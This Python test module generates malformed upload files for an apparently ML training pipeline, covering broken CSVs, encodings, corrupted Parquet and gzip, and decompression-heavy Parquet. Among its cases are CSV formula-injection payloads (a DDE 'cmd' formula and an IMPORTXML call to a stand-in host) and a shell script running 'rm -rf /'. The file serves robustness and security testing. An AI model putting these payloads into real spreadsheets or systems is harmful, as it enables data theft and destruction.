"""Files that people drop to train with, each broken in its own way."""

from __future__ import annotations

import codecs
import gzip
import io
import struct
import zipfile
from collections.abc import Callable
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

Make = Callable[[], bytes]

COLUMNS = ["id", "km", "age", "fuel", "sold", "metallic", "price"]
SPEC = {
    "name": "cars",
    "target": "price",
    "id": "id",
    "features": {
        "km": "numeric",
        "age": "integer",
        "fuel": "categorical",
        "sold": "date",
        "metallic": "boolean",
    },
    "algorithms": {"xgboost": None},
}
ROW = ["1", "46986", "23", "Diesel", "2024-05-31", "1", "13500"]


def rows(count: int = 30) -> list[list[str]]:
    return [[str(number), *ROW[1:]] for number in range(count)]


def text(table: list[list[str]] | None = None, header: list[str] | None = None, comma: str = ",") -> str:
    lines = [comma.join(header or COLUMNS), *(comma.join(row) for row in table or rows())]
    return "\n".join(lines) + "\n"


def cell(column: str, value: str, line: int = 12) -> Make:
    """A good file with one wrong cell."""

    def make() -> bytes:
        table = rows()
        table[line][COLUMNS.index(column)] = value
        return text(table).encode()

    return make


def line(content: str | bytes, at: int = 12) -> Make:
    """A good file with one line of another form."""

    def make() -> bytes:
        lines = text().encode().split(b"\n")
        lines[at] = content.encode() if isinstance(content, str) else content
        return b"\n".join(lines)

    return make


def encoded(encoding: str, mark: bytes = b"") -> Make:
    return lambda: mark + text().replace("Diesel", "Erdgas-Öl").encode(encoding)


def parquet(**changes: Any) -> bytes:
    columns: dict[str, Any] = {
        name: [row[place] for row in rows()] for place, name in enumerate(COLUMNS)
    } | changes
    out = io.BytesIO()
    pq.write_table(pa.table({k: v for k, v in columns.items() if v is not None}), out)
    return out.getvalue()


def damaged(at: float, change: bytes) -> Make:
    """A Parquet file with some bytes overwritten; `at` is a share of its length, negative from the end."""

    def make() -> bytes:
        content = bytearray(parquet())
        place = int(at * len(content)) if at >= 0 else len(content) + int(at)
        content[place : place + len(change)] = change
        return bytes(content)

    return make


def lying_footer(length: int) -> Make:
    return lambda: parquet()[:-8] + struct.pack("<i", length) + b"PAR1"


def of_many_rows(groups: int = 21, rows_each: int = 1_000_000) -> bytes:
    """A few kilobytes of Parquet that stand for millions of rows: equal values are written once."""
    same = pa.DictionaryArray.from_arrays(pa.array(bytes(rows_each), pa.int8()), pa.array(["1"]))
    part = pa.table(dict.fromkeys(COLUMNS, same))
    out = io.BytesIO()
    with pq.ParquetWriter(out, part.schema) as writer:
        for _ in range(groups):
            writer.write_table(part)
    return out.getvalue()


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("cars.csv", text())
    return out.getvalue()


def gz(content: bytes, level: int = 6) -> bytes:
    return gzip.compress(content, level, mtime=0)


BAD_NUMBERS = {
    "a word": "far",
    "thousands": "1 000",
    "a comma": '"1,5"',
    "underscores": "1_000",
    "hexadecimal": "0x1F",
    "infinity": "inf",
    "minus infinity": "-Infinity",
    "beyond a double": "1e999",
    "a percentage": "12%",
    "a currency": "€5",
    "two signs": "--5",
    "other digits": "١٢٣",
    "a fraction sign": "½",
    "a formula": "=1+1",
    "a spreadsheet error": "#REF!",
    "a command formula": "=cmd|' /C calc'!A0",
    "an import formula": '"=IMPORTXML(CONCAT(""http://x"",A1))"',
    "a reference": "@SUM(A1:A9)",
    "a plus formula": "+A1",
    "JSON": "{}",
    "a very long number": "9" * 5000,
    "a no-break space": "5\u00a05",
    "a right-to-left mark": "\u202e5",
    "signalling nan": "snan",
    "nan with a payload": "nan(1)",
}
BAD_DATES = [
    "0000-01-01",
    "0000-00-00",
    "10000-01-01",
    "2024-13-01",
    "2024-02-30",
    "2023-02-29",
    "2024-00-10",
    "24-05-31",
    "31.05.2024",
    "05/31/2024",
    "2024/05/31",
    "20240531",
    "2024-5-1",
    "2024-W22",
    "1717113600",
    "yesterday",
    "-0044-03-15",
    "2024-05-31x",
    "=TODAY()",
    "２０２４-05-31",
]
BAD_BOOLEANS = ["maybe", "2", "-1", "yesno", "on", "0.5", "wahr", "=TRUE()"]
BAD_INTEGERS = ["3.5", "1e-3", "0.1", "two", "1.0.0", "NaN1"]


CASES: dict[str, Make] = {
    "0 bytes": lambda: b"",
    "one newline": lambda: b"\n",
    "blank lines": lambda: b"\r\n \r\n\t\r\n",
    "a byte order mark alone": lambda: codecs.BOM_UTF8,
    "a header alone": lambda: (",".join(COLUMNS) + "\n").encode(),
    "a header and blank lines": lambda: (",".join(COLUMNS) + "\n\n\n\n").encode(),
    "one row": lambda: text(rows(1)).encode(),
    "nineteen rows": lambda: text(rows(19)).encode(),
    "no header": lambda: text().split("\n", 1)[1].encode(),
    "other columns": lambda: text(header=list("abcdefg")).encode(),
    "upper-case header": lambda: text(header=[c.upper() for c in COLUMNS]).encode(),
    "a column without a name": lambda: text(header=["id", "", *COLUMNS[2:]]).encode(),
    "a column twice": lambda: text(header=["id", "km", "km", *COLUMNS[3:]]).encode(),
    "all columns of one name": lambda: text(header=["km"] * 7).encode(),
    "no target": lambda: text([r[:-1] for r in rows()], COLUMNS[:-1]).encode(),
    "no id": lambda: text([r[1:] for r in rows()], COLUMNS[1:]).encode(),
    "semicolons": lambda: text(comma=";").encode(),
    "tabs": lambda: text(comma="\t").encode(),
    "pipes": lambda: text(comma="|").encode(),
    "header of commas": lambda: b",,,,,,\n" + text().encode(),
    "header in quotes never closed": lambda: b'"' + text().encode(),
    "header of 10,000 columns of which none fits": lambda: text(
        [["1"] * 10_000] * 25, [f"c{n}" for n in range(10_000)]
    ).encode(),
    "a row of 10,000 fields": line(",".join(["1"] * 10_000)),
    "a row too short": line("1,2,3"),
    "a row too long": line(",".join([*ROW, "8"])),
    "rows of all widths": lambda: "\n".join(",".join(ROW[: 1 + n % 7]) for n in range(40)).encode(),
    "a quote never closed": line('1,"46986,23,Diesel,2024-05-31,1,13500'),
    "a quote never closed in the last column": line('1,46986,23,Diesel,2024-05-31,1,"13500'),
    "a quote never closed in the last line": lambda: text().encode() + b'31,1,2,Gas,2024-05-31,1,"5\n',
    "a header of 20,000 columns": lambda: text(
        header=[*COLUMNS, *(f"c{at}" for at in range(20_000))]
    ).encode(),
    "a header of megabytes": lambda: (",".join(f"{'c' * 200}{at}" for at in range(15_000)) + "\n").encode(),
    "a cell of 200,000 characters": line("1,46986,23," + "x" * 200_000 + ",2024-05-31,1,13500"),
    "an object of JSON for a header": lambda: b'{"km":1},' + text().encode(),
    "a quote in the middle": line('1,46"986,23,Diesel,2024-05-31,1,13500'),
    "text after a quote": line('1,"46986"x,23,Diesel,2024-05-31,1,13500'),
    "quotes as backslashes": line('1,46986,23,"Die\\"sel",2024-05-31,1,13500'),
    "a NUL byte": line(b"1,46986,23,Die\x00sel,2024-05-31,1,13500"),
    "only NUL bytes": lambda: b"\x00" * 4096,
    "control characters": lambda: bytes(range(1, 32)) * 100,
    "random bytes": lambda: bytes((n * 7919 + n // 3) % 256 for n in range(4096)),
    "UTF-16 with a mark": encoded("utf-16"),
    "UTF-16 LE without a mark": encoded("utf-16-le"),
    "UTF-16 BE without a mark": encoded("utf-16-be"),
    "UTF-32": encoded("utf-32"),
    "Latin-1": encoded("latin-1"),
    "Windows-1252": encoded("cp1252"),
    "Mac Roman": encoded("mac-roman"),
    "Shift JIS": lambda: text().replace("Diesel", "ディーゼル").encode("shift-jis"),
    "GBK": lambda: text().replace("Diesel", "柴油").encode("gbk"),
    "EBCDIC": encoded("cp500"),
    "UTF-7": lambda: text().replace("km", "k+AG0-").encode(),
    "overlong UTF-8": line(b"1,46986,23,\xc0\xafx,2024-05-31,1,13500"),
    "a lone surrogate": line(b"1,46986,23,\xed\xa0\x80,2024-05-31,1,13500"),
    "cut in a character": lambda: text().replace("Diesel", "Öl").encode()[:200] + b"\xc3",
    "Latin-1 in the last line": lambda: text().encode() + b"31,1,2,\xd6l,2024-05-31,1,2\n",
    "a zip archive": zipped,
    "an old Excel workbook": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600,
    "zstd": lambda: b"\x28\xb5\x2f\xfd" + b"\x00" * 60,
    "bzip2": lambda: b"BZh91AY&SY" + b"\x00" * 60,
    "ORC": lambda: b"ORC" + b"\x00" * 60,
    "Avro": lambda: b"Obj\x01" + b"\x00" * 60,
    "HTML": lambda: b"<!DOCTYPE html><html><body>403 Forbidden</body></html>\n" * 30,
    "XML error of S3": lambda: b"<?xml version='1.0'?><Error><Code>AccessDenied</Code></Error>",
    "JSON": lambda: b'{"km": 1, "price": 2}\n' * 30,
    "a JSON list": lambda: b"[" + b'{"km": 1, "price": 2},' * 30 + b"]",
    "a PDF": lambda: b"%PDF-1.7\n" + text().encode(),
    "a pickle": lambda: b"\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00}\x94." * 8,
    "a shell script": lambda: b"#!/bin/sh\nrm -rf /\n" * 20,
    "gzip cut short": lambda: gz(text().encode())[:-20],
    "gzip with a wrong checksum": lambda: gz(text().encode())[:-8] + b"\x00" * 8,
    "gzip of nothing": lambda: gz(b""),
    "gzip of a zip": lambda: gz(zipped()),
    "gzip of gzip": lambda: gz(gz(text().encode())),
    "gzip of Parquet": lambda: gz(parquet()),
    "gzip with rubbish after it": lambda: gz(text().encode()) + b"rubbish" * 10,
    "gzip head alone": lambda: b"\x1f\x8b\x08",
    "gzip of a wrong method": lambda: b"\x1f\x8b\x07" + b"\x00" * 40,
    "Parquet cut to its head": lambda: parquet()[:4],
    "Parquet cut in half": lambda: parquet()[: len(parquet()) // 2],
    "Parquet without its last byte": lambda: parquet()[:-1],
    "Parquet with a footer of no length": lying_footer(0),
    "Parquet with a footer of negative length": lying_footer(-5),
    "Parquet with a footer longer than the file": lying_footer(1 << 30),
    "Parquet with a footer of the wrong length": lying_footer(40),
    "Parquet encrypted": lambda: parquet()[:-4] + b"PARE",
    "Parquet magic and nothing": lambda: b"PAR1PAR1",
    "Parquet of zeros": lambda: b"PAR1" + b"\x00" * 500 + b"PAR1",
    "Parquet without a target": lambda: parquet(price=None),
    "Parquet without an id": lambda: parquet(id=None),
    "Parquet of no rows": lambda: parquet(**{name: pa.array([], pa.string()) for name in COLUMNS}),
    "Parquet of few rows": lambda: parquet(**{name: ["1"] * 5 for name in COLUMNS}),
    "Parquet with lists": lambda: parquet(km=[[1, 2]] * 30),
    "Parquet with structs": lambda: parquet(km=[{"a": 1}] * 30),
    "Parquet with bytes": lambda: parquet(km=[b"\xff\xfe"] * 30),
    "Parquet with maps": lambda: parquet(km=pa.array([[("a", 1)]] * 30, pa.map_(pa.string(), pa.int64()))),
    "Parquet with times of day": lambda: parquet(sold=pa.array([1] * 30, pa.time32("s"))),
    "Parquet with durations": lambda: parquet(km=pa.array([1] * 30, pa.duration("s"))),
    "Parquet of 21 million rows": of_many_rows,
    "Parquet of 2 million rows in few bytes": lambda: of_many_rows(20, 600_000),
    "Parquet with a cell of fifty megabytes": lambda: parquet(fuel=["x" * (50 << 20), *["Gas"] * 29]),
    "Parquet with a cell of a megabyte in every row": lambda: parquet(fuel=["x" * (1 << 20)] * 30),
    "Parquet with a cell too long in a column of numbers": lambda: parquet(km=["1" * 140_000] * 30),
    "Parquet of 20,000 columns": lambda: parquet(**{f"c{at}": ["1"] * 30 for at in range(20_000)}),
    "Parquet with days beyond every calendar": lambda: parquet(sold=pa.array([2**31 - 1] * 30, pa.date32())),
    "Parquet with days before every calendar": lambda: parquet(sold=pa.array([-(2**31)] * 30, pa.date32())),
    "Parquet with times beyond every calendar": lambda: parquet(
        sold=pa.array([2**63 - 1] * 30, pa.timestamp("us"))
    ),
    "Parquet with unions of lists": lambda: parquet(fuel=[[["a"]]] * 30),
    "Parquet with bytes of fixed width": lambda: parquet(km=pa.array([b"12"] * 30, pa.binary(2))),
    "Parquet with infinities": lambda: parquet(km=[float("inf")] * 30),
    "Parquet with a missing target": lambda: parquet(price=[None] * 30),
    "Parquet with a NaN target": lambda: parquet(price=[float("nan")] * 30),
    "Parquet with an infinite target": lambda: parquet(price=[float("-inf")] * 30),
    "Parquet with dates as numbers": lambda: parquet(sold=[20240531] * 30),
    "Parquet with halves for whole numbers": lambda: parquet(age=[0.5] * 30),
    "Parquet with texts that are no UTF-8": lambda: parquet(
        fuel=pa.Array.from_buffers(
            pa.string(),
            30,
            [None, pa.py_buffer(struct.pack("<31i", *range(31))), pa.py_buffer(b"\xff" * 30)],
        )
    ),
    **{
        f"Parquet damaged at {at:g} with {change.hex()}": damaged(at, change)
        for at in (-12, -20, -60, -120, -200, -400, -800)
        for change in (b"\xff\xff\xff\xff", b"\x00" * 8, b"\x15\x80\x80\x80\x80\x80\x80\x80\x01")
    },
    **{f"a number that is {what}": cell("km", value) for what, value in BAD_NUMBERS.items()},
    **{f"a target that is {what}": cell("price", value) for what, value in BAD_NUMBERS.items()},
    **{f"the date {value}": cell("sold", value) for value in BAD_DATES},
    **{f"the boolean {value}": cell("metallic", value) for value in BAD_BOOLEANS},
    **{f"the whole number {value}": cell("age", value) for value in BAD_INTEGERS},
    "a target that is missing": cell("price", ""),
    "a target that is NA": cell("price", "NA"),
    "a target that is nan": cell("price", "nan"),
    "a field of a megabyte": cell("km", "x" * (1 << 20)),
    "a quoted field of a megabyte": cell("km", '"' + "y\n" * (1 << 19) + '"'),
}

# A damaged byte may fall where nothing reads it; then the file is as good as before.
MAY_PASS = {name for name in CASES if name.startswith("Parquet damaged")} | {"quotes as backslashes"}
